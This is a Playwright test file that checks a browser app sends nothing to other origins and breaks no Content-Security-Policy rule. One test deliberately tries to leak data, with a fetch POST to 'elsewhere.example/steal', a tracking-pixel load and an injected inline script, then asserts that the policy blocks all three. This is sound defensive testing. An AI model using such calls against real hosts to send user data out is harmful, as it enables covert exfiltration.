/** Nothing leaves the tab: every request of a whole run, seen from outside the browser, and no breach of the policy. */
import { expect, type Page, test } from '@playwright/test';
import { startRecordingProxy } from '../lib/recording-proxy.mjs';
import { runAllCapabilities } from './run-all.ts';
import { openStudio } from './support.ts';

/** Breaches of the Content-Security-Policy in the page and its workers, collected from now on. */
async function watchPolicy(page: Page): Promise<string[]> {
  const breaches: string[] = [];
  await page.exposeFunction('reportBreach', (line: string) => breaches.push(line));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { reportBreach } = globalThis as unknown as { reportBreach(line: string): void };
      reportBreach(`${event.violatedDirective}: ${event.blockedURI || event.sourceFile} ${event.sample}`);
    });
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) breaches.push(message.text());
  });
  return breaches;
}

test('all capabilities run without one request to another origin and without a breach of the policy', async ({
  browser,
  baseURL,
}) => {
  test.setTimeout(600_000);
  const own = new URL(baseURL!).host;
  const proxy = await startRecordingProxy(own);
  const context = await browser.newContext({ proxy: { server: proxy.server, bypass: '<-loopback>' } });
  try {
    const page = await context.newPage();
    const breaches = await watchPolicy(page);
    await openStudio(page, baseURL);
    const outcomes = await runAllCapabilities(page);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.reload();
    await openStudio(page, baseURL);

    expect(outcomes.filter(({ outcome }) => outcome !== 'ok')).toEqual([]);
    expect(outcomes.length).toBeGreaterThan(10);
    const elsewhere = proxy.asked.filter(({ url }) => !url.startsWith(`http://${own}/`));
    expect(elsewhere).toEqual([]);
    expect(proxy.asked.length).toBeGreaterThan(5);
    expect(breaches).toEqual([]);
  } finally {
    await context.close();
    await proxy.stop();
  }
});

test('the policy stops what would leave the tab, and the proxy would have seen it', async ({
  browser,
  baseURL,
}) => {
  const proxy = await startRecordingProxy(new URL(baseURL!).host);
  const context = await browser.newContext({ proxy: { server: proxy.server, bypass: '<-loopback>' } });
  try {
    const page = await context.newPage();
    const breaches = await watchPolicy(page);
    await openStudio(page, baseURL);
    const sent = await page.evaluate(async () => {
      const attempts = [
        fetch('http://elsewhere.example/steal', { method: 'POST', body: 'picture' }),
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = 'http://elsewhere.example/pixel.png';
        }),
      ];
      return (await Promise.allSettled(attempts)).map(({ status }) => status);
    });
    expect(sent).toEqual(['rejected', 'rejected']);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = true';
      document.body.append(script);
    });
    expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
    await expect.poll(() => breaches.length).toBeGreaterThanOrEqual(3);
    expect(proxy.asked.filter(({ url }) => url.includes('elsewhere'))).toEqual([]);

    const bare = await context.newPage();
    await bare.goto('http://elsewhere.example/').catch(() => {});
    expect(proxy.asked.filter(({ url }) => url.includes('elsewhere'))).not.toEqual([]);
  } finally {
    await context.close();
    await proxy.stop();
  }
});
